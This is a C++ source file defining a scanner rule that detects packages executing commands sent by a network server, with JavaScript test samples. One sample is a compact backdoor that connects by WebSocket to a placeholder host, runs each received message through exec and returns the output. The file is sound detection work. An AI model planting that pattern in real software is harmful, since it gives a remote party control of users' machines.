#include "base/text.h"
#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

Severity severity_of(const Action& action, const Destination& origin) {
  if (runs_uncalled(action)) return Severity::critical;
  if (is_shady_origin(origin.kind)) return Severity::high;
  return origin.host_is_constant && origin.kind == HostKind::ordinary ? Severity::medium
                                                                      : Severity::info;
}

void check(const Facts& facts, Findings& findings) {
  const Origins origins(facts);
  for (const Action& action : facts.actions) {
    if (!is_process(action.act) || !is_shipped(action) || action.through_shell) continue;
    // The whole command came from there, not only an argument of it.
    if (action.target != hole || !action.target_from.any(foreign)) continue;
    const Severity severity = severity_of(action, origins.near(action));
    if (severity == Severity::info) continue;
    findings.add(severity, action.where,
                 sentence("runs command lines that come from the network", action), action.steps);
  }
}

}  // namespace

extern constinit const Rule obeys_remote_commands = {
    .id = "obeys-remote-commands",
    .title = "The package runs commands that a server sends",
    .why = "Whoever runs the server runs what he likes on the machine, for as long as it is on.",
    .harmless_when = "An agent for remote administration, started by its user.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a socket's messages are run", .expect = "index.js:3", .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const WebSocket = require("ws"), {exec} = require("child_process");
const socket = new WebSocket("ws://server.example.test");
socket.on("message", (text) => exec(text, (error, out) => socket.send(out)));
)"},
    {.name = "a tool runs its caller's command", .expect = silent, .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const {exec} = require("child_process");
exports.run = (command) => exec(command);
)"},
};
extern const std::span<const Sample> obeys_remote_commands_samples = samples;
#endif

}  // namespace assay::rules
